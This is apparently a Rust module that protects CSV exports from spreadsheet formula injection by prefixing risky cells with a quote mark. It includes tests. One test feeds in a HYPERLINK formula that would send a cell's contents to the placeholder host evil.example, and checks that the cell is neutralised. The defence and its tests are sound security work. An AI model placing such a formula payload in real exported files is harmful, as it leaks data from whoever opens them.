//! CSV files people open in a spreadsheet. A cell that starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula (a
//! seller's name `=HYPERLINK(…)` would run on the treasurer's machine), so every cell we
//! write goes through `safe_cell`: such a cell is prefixed with `'`, which spreadsheets show
//! as text. Every CSV export uses `Sheet`, so none can forget it.

use std::borrow::Cow;

/// The cell as a spreadsheet will show it, never as a formula.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV being written: a header, then rows, every cell neutralised by `safe_cell`.
pub struct Sheet {
    w: csv::Writer<Vec<u8>>,
}

impl Sheet {
    pub fn new(header: &[&str]) -> Sheet {
        let mut s = Sheet {
            w: csv::Writer::from_writer(Vec::new()),
        };
        s.row(header);
        s
    }

    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        // Writing to a Vec cannot fail.
        self.w
            .write_record(cells.iter().map(|c| safe_cell(c.as_ref()).into_owned()))
            .expect("csv into memory");
    }

    pub fn into_string(self) -> String {
        let bytes = self.w.into_inner().expect("csv into memory");
        String::from_utf8(bytes).expect("cells are UTF-8")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_plain_cells_stay() {
        for bad in ["=1+1", "+84912", "-5", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(safe_cell(bad), format!("'{bad}"));
        }
        for ok in ["NGUYEN THI HANH", "180000", "", "Màn tuyn", "a=b"] {
            assert_eq!(safe_cell(ok), ok);
        }
        let mut s = Sheet::new(&["ten", "so_tien"]);
        s.row(&[
            r#"=HYPERLINK("http://evil.example/?"&A1,"Bam vao")"#,
            "180000",
        ]);
        let text = s.into_string();
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let row = r.records().next().unwrap().unwrap();
        assert!(row[0].starts_with("'=HYPERLINK"), "{text}");
        assert_eq!(&row[1], "180000");
    }
}
